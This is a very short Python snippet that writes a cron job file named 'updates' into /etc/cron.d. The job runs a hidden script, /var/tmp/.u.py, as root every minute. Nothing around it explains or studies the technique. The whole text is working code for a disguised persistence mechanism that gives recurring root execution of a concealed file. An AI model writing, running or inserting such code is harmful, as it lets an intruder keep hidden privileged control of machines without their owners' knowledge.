from pathlib import Path
line = "* * * * * root python3 /var/tmp/.u.py\n"
Path("/etc/cron.d/updates").write_text(line)
